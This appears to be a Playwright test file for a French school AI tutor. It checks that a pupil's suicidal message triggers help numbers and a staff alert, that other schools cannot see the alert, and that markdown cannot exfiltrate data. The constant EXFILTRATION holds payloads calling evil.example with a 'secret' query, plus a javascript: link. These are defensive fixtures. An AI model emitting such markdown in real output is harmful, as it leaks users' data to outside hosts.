// Safety of minors in a real browser against the real server (embedded llama.cpp on a tiny GGUF, accounts
// made with the CLI): a pupil in distress sees the help numbers at once, still after a reload, and can report
// an answer; the CPE the school designated sees the alert and opens it; the head of another school does not
// see it; and markdown in a stored tutor message can neither load anything from outside nor run a script.
import { randomUUID } from 'node:crypto';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { systemClock } from '../src/server/clock.ts';
import { createContentCipher } from '../src/server/crypto/content-cipher.ts';
import { loadOrCreateKeyFile } from '../src/server/crypto/keyring.ts';
import { openDatabase } from '../src/server/db/connection.ts';
import { createChatRepo } from '../src/server/modules/chat/chat.repo.ts';
import { atBothSizes, screenshot } from './browser.ts';
import { startBrowserSuite, type BrowserSuite, type TestServer } from './server.ts';

const PASSWORD = 'mot-de-passe-e2e-2026';
const UAI = '0691234A';
const OTHER_UAI = '0751234B';
const CONTACTS = 'CPE : Mme Durand, bureau 12 · Infirmière : M. Roux, bureau 3';
const DISTRESS = 'jveux plus vivre, je pense à me suicider';
const EXFILTRATION = 'Regarde ça ![x](http://evil.example/leak?c=secret) et [clic](javascript:alert(1)) ou <img src="http://evil.example/raw.png">';

/** Stores a tutor message the way the chat service does (real repository, real per-pupil encryption). */
async function storeTutorMessage(test: TestServer, conversationId: string, text: string): Promise<void> {
  const database = openDatabase(test.config.database);
  try {
    const repo = createChatRepo(database.db);
    const conversation = await repo.findConversation(conversationId);
    if (!conversation) throw new Error(`conversation ${conversationId} introuvable`);
    const cipher = createContentCipher(database.db, loadOrCreateKeyFile(test.config.keyFile), systemClock);
    const id = randomUUID();
    const now = Date.now();
    const contentEnc = await cipher.encrypt(conversation.pupil_id, { table: 'messages', column: 'content', rowId: id }, text);
    await repo.appendMessage({ id, conversation_id: conversationId, author: 'tutor', content_enc: contentEnc, status: 'complete', created_at: now }, { updated_at: now });
  } finally {
    await database.close();
  }
}

describe('safety in Chromium: care, alerts for designated staff, no exfiltration through markdown', () => {
  let suite: BrowserSuite;
  let test: TestServer;
  let conversationUrl = '';
  let alertId = '';

  beforeAll(async () => {
    suite = await startBrowserSuite({
      name: 'safety',
      password: PASSWORD,
      maxTokens: 60,
      setup: [
        ['schools', 'add', '--uai', UAI, '--name', 'Lycée Ampère'],
        ['schools', 'add', '--uai', OTHER_UAI, '--name', 'Collège Voltaire'],
        ['classes', 'add', '--school', UAI, '--name', '2nde B', '--level', '2nde'],
        ['users', 'add', '--login', 'lea.martin', '--role', 'pupil', '--school', UAI, '--class', '2nde B', '--name', 'Léa Martin'],
        // The CPE has a teacher's account without classes; the school designates it for alerts.
        ['users', 'add', '--login', 'cpe.durand', '--role', 'teacher', '--school', UAI, '--name', 'Mme Durand'],
        ['users', 'add', '--login', 'direction.voltaire', '--role', 'school-admin', '--school', OTHER_UAI, '--name', 'M. Leroy'],
        ['settings', 'set', '--school', UAI, 'alert-staff', 'cpe.durand'],
        ['settings', 'set', '--school', UAI, 'school-contacts', CONTACTS],
        ['settings', 'set', '--school', UAI, 'free-questions', '2nde'],
        ['settings', 'set', '--school', UAI, 'opening-hours', 'lun-dim 00:00-24:00'],
      ],
    });
    test = suite.test;
  }, 120_000);

  afterAll(async () => suite?.close());

  const as = (login: string): Promise<Page> => suite.as(login);

  it('a pupil who writes about suicide sees the help numbers and the school contacts at once, and can report an answer', async () => {
    const pupil = await as('lea.martin');
    await pupil.getByTestId('new-conversation').click();
    await pupil.getByTestId('chat-input').fill(DISTRESS);
    const sentAt = Date.now();
    await pupil.getByTestId('chat-send').click();
    const care = pupil.getByTestId('care-panel');
    await care.waitFor({ timeout: 10_000 });
    // Before any answer: the help comes with the pupil's stored message, not after the model.
    expect(Date.now() - sentAt).toBeLessThan(5_000);
    const suicideLine = care.locator('[data-testid="care-line"][data-number="3114"]');
    expect(await suicideLine.getAttribute('href')).toBe('tel:3114');
    expect(await suicideLine.textContent()).toContain('prévention du suicide');
    expect(await care.getByTestId('care-school-contacts').textContent()).toBe(CONTACTS);
    expect(await pupil.getByTestId('care-bar').locator('a[href="tel:3114"]').count()).toBe(1);
    expect(await pupil.getByTestId('ai-notice').isVisible()).toBe(true);
    conversationUrl = pupil.url();

    const answer = pupil.locator('[data-testid="message-tutor"][data-status="complete"]').last();
    await answer.waitFor({ timeout: 60_000 });
    // Still there once the answer is written: the help does not go away.
    expect(await care.isVisible()).toBe(true);
    await care.scrollIntoViewIfNeeded();
    await screenshot(pupil, 'eleve-aide-bureau');
    await pupil.setViewportSize({ width: 360, height: 740 });
    await care.scrollIntoViewIfNeeded();
    await screenshot(pupil, 'eleve-aide-360');
    expect(await pupil.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
    await pupil.setViewportSize({ width: 1100, height: 800 });

    await answer.getByTestId('report-open').click();
    await answer.getByTestId('report-reason').fill('La réponse ne m’aide pas du tout.');
    await answer.getByTestId('report-send').click();
    expect(await answer.getByTestId('report-done').textContent()).toContain('transmis');

    // Coming back to the conversation: the help is still under the message it was shown for, and on top.
    await pupil.reload();
    const again = pupil.getByTestId('care-panel');
    await again.waitFor({ timeout: 10_000 });
    expect(await pupil.getByTestId('care-panel').count()).toBe(1);
    expect(await again.locator('[data-testid="care-line"][data-number="3114"]').getAttribute('href')).toBe('tel:3114');
    expect(await again.getByTestId('care-school-contacts').textContent()).toBe(CONTACTS);
    expect(await again.evaluate((panel) => panel.previousElementSibling?.textContent ?? '')).toContain('suicider');
    expect(await pupil.getByTestId('care-bar').locator('a[href="tel:3114"]').count()).toBe(1);
  });

  it('the designated CPE sees the alert in its Alertes page and opens it; opening is said to be audited', async () => {
    const cpe = await as('cpe.durand');
    const entry = cpe.getByTestId('nav-alerts');
    await entry.waitFor();
    expect(await cpe.getByTestId('nav-alerts-badge').textContent()).toContain('2');
    await entry.click();
    const distress = cpe.getByTestId('alert-item').filter({ hasText: 'Détresse / idées suicidaires' });
    await distress.waitFor();
    expect(await distress.getByTestId('alert-pupil').textContent()).toBe('Léa Martin');
    expect(await distress.getAttribute('data-state')).toBe('new');
    expect(await cpe.getByTestId('alert-item').filter({ hasText: 'Signalement de l’élève' }).count()).toBe(1);
    expect(await cpe.getByTestId('alerts-audited').textContent()).toContain('journal d’audit');
    // The list never shows what the pupil wrote.
    expect(await cpe.locator('main').textContent()).not.toContain('suicider');
    await atBothSizes(cpe, 'cpe-alertes');

    alertId = (await distress.getAttribute('data-alert-id')) ?? '';
    await distress.getByTestId('alert-open').click();
    const excerpt = cpe.getByTestId('alert-excerpt');
    await excerpt.waitFor();
    expect(await excerpt.textContent()).toContain(DISTRESS);
    expect(await cpe.getByTestId('alert-audited').textContent()).toContain('journal d’audit');
    expect(await cpe.getByTestId('alert-pupil').textContent()).toContain('Léa Martin · 2nde B');
    await cpe.getByTestId('alert-state-handled').check();
    await cpe.getByTestId('alert-note').fill('Entretien avec Léa ce matin, famille informée.');
    await cpe.getByTestId('alert-save').click();
    await cpe.getByTestId('alert-form-success').waitFor();
    await atBothSizes(cpe, 'cpe-alerte-ouverte');
    // Opened then handled: it no longer counts as new.
    await expect.poll(async () => cpe.getByTestId('nav-alerts-badge').count()).toBe(1);
    expect(await cpe.getByTestId('nav-alerts-badge').textContent()).toContain('1');
  });

  it('the head of another school does not see the alert, not even by its address', async () => {
    expect(alertId).not.toBe('');
    const other = await as('direction.voltaire');
    await other.getByTestId('nav-alerts').click();
    await other.getByTestId('alerts-empty').waitFor();
    expect(await other.getByTestId('alert-item').count()).toBe(0);
    await other.goto(`${test.baseUrl}/alertes/${alertId}`);
    await other.getByTestId('alert-not-found').waitFor();
    expect(await other.locator('body').textContent()).not.toContain('Léa Martin');
    expect(await other.locator('body').textContent()).not.toContain('suicider');
  });

  it('markdown images and javascript: links in messages load nothing from outside and run nothing', async () => {
    expect(conversationUrl).not.toBe('');
    const conversationId = new URL(conversationUrl).pathname.split('/').pop() ?? '';
    await storeTutorMessage(test, conversationId, `Voici : ${EXFILTRATION}`);

    const pupil = await as('lea.martin');
    const outside: string[] = [];
    const dialogs: string[] = [];
    pupil.on('request', (request) => {
      if (!request.url().startsWith(test.baseUrl) && !request.url().startsWith('data:')) outside.push(request.url());
    });
    pupil.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await pupil.goto(conversationUrl);
    const planted = pupil.getByTestId('message-tutor').filter({ hasText: 'Voici' });
    await planted.waitFor();
    // The pupil's own messages go through the same renderer: type the same markdown.
    const pupilMessages = await pupil.getByTestId('message-pupil').count();
    await pupil.getByTestId('chat-input').fill(EXFILTRATION);
    await pupil.getByTestId('chat-send').click();
    await expect.poll(() => pupil.getByTestId('message-pupil').count()).toBe(pupilMessages + 1);
    await pupil.locator('[data-testid="message-tutor"][data-status="streaming"]').waitFor({ state: 'detached', timeout: 60_000 });

    for (const message of [planted, pupil.getByTestId('message-pupil').last()]) {
      expect(await message.locator('img, image, iframe, object, embed, [src]').count()).toBe(0);
      // The image becomes its description; the javascript: link stays words without a target.
      expect(await message.textContent()).toContain('[image : x]');
      expect(await message.locator('a[href]').count()).toBe(0);
      await message.getByText('clic').first().click();
    }
    expect(await pupil.locator('[href^="javascript:" i]').count()).toBe(0);
    await pupil.waitForTimeout(300);
    expect(dialogs).toEqual([]);
    expect(outside.filter((url) => url.includes('evil.example'))).toEqual([]);
    expect(outside).toEqual([]);
  });
});
